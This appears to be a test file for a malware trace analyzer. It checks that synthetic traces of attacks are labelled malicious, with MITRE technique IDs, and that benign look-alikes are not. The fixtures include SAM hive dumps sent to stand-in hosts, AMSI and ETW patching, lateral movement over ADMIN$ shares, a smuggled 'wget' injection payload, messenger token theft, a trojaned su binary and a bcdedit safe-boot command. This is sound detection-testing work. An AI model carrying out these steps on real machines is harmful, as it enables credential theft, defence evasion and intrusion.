// Attacks that are told by the calls behind them, or by what is the same of many events: convicted with a second fact about the
// attack, and what honest programs do by the same calls is not.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { analyzeTrace } from '../../src/trace/analyze.ts'
import type { Trace } from '../../src/trace/trace.ts'
import { environment, file, runs, sets, trace } from './empty-trace.ts'

type Parts = readonly Partial<Trace>[]

const calls = (...list: readonly (readonly [string, ...(string | number)[]])[]): Partial<Trace> => ({
  apiCalls: list.map(([api, ...rest]) => ({ api, arguments: rest, pid: 7 })),
})
const MACHINE = 2_147_483_650
const saves = (hive: string, path: string): Partial<Trace> =>
  calls(['advapi32.RegOpenKeyExA', MACHINE, hive, 0, 1, 9], ['advapi32.RegSaveKeyA', 116, path, 0])
const asksWeb = (method: string, url: string, body = ''): Partial<Trace> => ({
  network: [{ kind: 'http', method, url, bodyBytes: body.length, bodyStart: body }],
})
const times = (count: number, part: (at: number) => Partial<Trace>): Parts =>
  Array.from({ length: count }, (_, at) => part(at))
const LIBRARY = 6_174_015_488
const patches = (name: string, at: number, bytes: number, protection = 0x40): Partial<Trace> =>
  calls(['kernel32.GetProcAddress', LIBRARY, name], ['kernel32.VirtualProtect', at, bytes, protection, 2])
const SAMPLE = 'C:\\Users\\u\\Downloads\\a.exe'
const laysThere = (from: string, host: string): Partial<Trace> =>
  calls(
    ['kernel32.CopyFileW', from, `\\\\${host}\\ADMIN$\\x.exe`, 0],
    ['advapi32.OpenSCManagerW', `\\\\${host}`, 0, 2],
    ['advapi32.CreateServiceW', 9, 'x', 'x', 16, 16, 3, 0, '%SystemRoot%\\x.exe', 0, 0, 0, 0, 0],
  )
const homes = file('list', '/home')
const paper = (at: number): string => `/home/u${at % 3}/Documents/${at}.odt`
const overwrites = (at: number): Parts => [
  file('write', paper(at), { existed: true }),
  file('delete', paper(at), { existed: true }),
]
const stores: Parts = ['discord', 'Slack', 'Signal'].map((name) =>
  file('list', `C:\\Users\\u\\AppData\\Roaming\\${name}\\Local Storage\\leveldb\\*`),
)
const token = file('read', 'C:\\Users\\u\\AppData\\Roaming\\discord\\Local Storage\\leveldb\\000005.ldb')
const once = (path: string): Partial<Trace> =>
  sets('HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce', '*back', `"${path}" /s`)
const safeMode = runs('bcdedit.exe /set {current} safeboot minimal')

const policy = (name: string, data: string): Partial<Trace> =>
  sets('HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Policies\\System', name, data)
const WORM = 'C:\\Users\\u\\Downloads\\a.vbs'
const PHOTO = 'C:\\Users\\u\\AppData\\Local\\Temp\\photo.jpg.vbs'
const mails: Partial<Trace> = {
  system: [{ kind: 'question', about: 'mail_accounts', what: 'Outlook.AddressEntries' }],
  network: [{ kind: 'smtp', host: 'the mail program', to: ['a@b.example'] }],
}

const CONVICTED: Readonly<Record<string, readonly [Parts, string]>> = {
  'the hive of accounts, out of sight': [[saves('SAM', 'C:\\Windows\\Temp\\a.tmp')], 'T1003.002'],
  'the hive of secrets, and something is sent': [
    [saves('SECURITY', 'C:\\Users\\u\\b.hiv'), asksWeb('POST', 'http://up.x.example/a', 'regf')],
    'T1003.002',
  ],
  'tracing is patched': [[patches('EtwEventWrite', LIBRARY + 7_596, 3)], 'T1562.006'],
  'the scanner is patched': [[patches('AmsiScanBuffer', LIBRARY + 4_308, 6)], 'T1562.001'],
  'itself on the hidden shares of two machines': [
    [environment({ sample: SAMPLE }), laysThere(SAMPLE, '192.168.7.1'), laysThere(SAMPLE, '192.168.7.2')],
    'T1021.002',
  ],
  'an order in the same request to one machine after another': [
    times(20, (at) => asksWeb('POST', `http://203.0.113.${at}:8080/diag`, 'host=`wget http://198.51.100.7/m`')),
    'T1190',
  ],
  'everybody loses what was written over first': [
    [homes, ...times(8, (at) => file('list', `/home/u${at}`)), ...[0, 1, 2, 3, 4, 5].flatMap(overwrites)],
    'T1485',
  ],
  'three messengers are looked for, one is there, and something is sent': [
    [...stores, token, asksWeb('POST', 'http://hooks.x.example/1', 'token')],
    'T1539',
  ],
  'its user can end nothing, and is asked nothing': [
    [policy('DisableTaskMgr', '1'), policy('DisableRegistryTools', '1'), policy('EnableLUA', '0')],
    'T1562.001',
  ],
  'a copy of itself under another name is mailed around': [
    [environment({ sample: WORM }), file('copy', WORM, { to: PHOTO }), file('read', PHOTO), mails],
    'T1534',
  ],
  'what asks for passwords is another program, and the original hidden': [
    [file('rename', '/usr/bin/su', { to: '/usr/lib/.x/su' }), file('write', '/usr/bin/su', { start: '#!/bin/sh\n' })],
    'T1554',
  ],
  'back in safe mode, out of what everybody shares': [[safeMode, once('C:\\Users\\Public\\x.exe')], 'T1562.009'],
}

const NOT_CONVICTED: Readonly<Record<string, Parts>> = {
  'a backup of the registry': [saves('SAM', 'D:\\Backup\\sam'), saves('SECURITY', 'D:\\Backup\\security')],
  'the hive of the system, and a report': [
    saves('SYSTEM', 'C:\\Windows\\Temp\\system'),
    asksWeb('POST', 'http://report.x.example/a', 'ok'),
  ],
  'an unpacker makes a section writable': [patches('EtwEventWrite', LIBRARY + 4_096, 65_536)],
  'tracing is called, and something else is patched': [patches('EtwEventWrite', LIBRARY * 2, 5)],
  'tracing is called, and its place read': [patches('EtwEventWrite', LIBRARY + 7_596, 3, 0x20)],
  'a tool and its service for twenty machines': [
    environment({ sample: SAMPLE }),
    ...times(20, (at) => laysThere('C:\\Tools\\agent.exe', `192.168.7.${at}`)),
  ],
  'a service here': [laysThere(SAMPLE, '.')],
  'seeds of a network are asked': times(40, (at) => asksWeb('GET', `http://203.0.113.${at}:8333/peers`)),
  'printers of the house': times(40, (at) => asksWeb('POST', `http://192.168.7.${at}:631/ipp/print`, 'report')),
  'an eraser of what it was given': [0, 1, 2, 3, 4, 5].flatMap(overwrites),
  'old copies are removed from all homes': [
    homes,
    ...times(9, (at) => file('delete', `/home/u${at % 3}/Documents/${at}.bak`, { existed: true })),
  ],
  'a cleaner looks at messengers': [...stores, token],
  'a chat client reads its own, and sends': [token, asksWeb('POST', 'http://chat.x.example/1', 'hello')],
  'a kiosk': [
    policy('DisableTaskMgr', '1'),
    policy('DisableRegistryTools', '1'),
    policy('DisableCMD', '1'),
    policy('ConsentPromptBehaviorAdmin', '2'),
  ],
  'a letter to everybody': [environment({ sample: WORM }), file('read', 'C:\\Users\\u\\Documents\\letter.odt'), mails],
  'a wrapper beside the original': [
    file('rename', '/usr/bin/java', { to: '/opt/java/java.real' }),
    file('write', '/usr/bin/java', { start: '#!/bin/sh\n' }),
  ],
  'a remover of drivers': [safeMode, once('C:\\Program Files\\Remover\\r.exe')],
  'a set-up goes on after the restart': [once('C:\\Users\\u\\AppData\\Local\\Temp\\setup.exe')],
}

const judged = (parts: Parts): ReturnType<typeof analyzeTrace> => analyzeTrace([trace(...parts)], { path: 'a' })

for (const [name, [parts, technique]] of Object.entries(CONVICTED))
  test(`convicted: ${name}`, () => {
    const { verdict, techniques } = judged(parts)
    assert.equal(verdict?.label, 'malicious')
    assert.ok(techniques.includes(technique), techniques.join(' '))
  })
for (const [name, parts] of Object.entries(NOT_CONVICTED))
  test(`not convicted: ${name}`, () => {
    assert.notEqual(judged(parts).verdict?.label, 'malicious')
  })

const UNNOTICED = ['a service here', 'printers of the house']
for (const name of UNNOTICED)
  test(`nothing is made of it: ${name}`, () => {
    assert.ok(!['suspicious', 'malicious'].includes(judged(NOT_CONVICTED[name] ?? []).verdict?.label ?? 'unknown'))
  })

test('a microphone that records is told, and a memo is no more than noted', () => {
  const { verdict, techniques } = judged([
    calls(['winmm.mciSendStringA', 'open new type waveaudio alias memo', 0, 0, 0]),
    calls(['winmm.mciSendStringA', 'record memo', 0, 0, 0]),
  ])
  assert.deepEqual([verdict?.label, techniques.includes('T1123')], ['unknown', true])
  assert.equal(judged([calls(['winmm.mciSendStringA', 'play record.wav', 0, 0, 0])]).verdict, null)
})
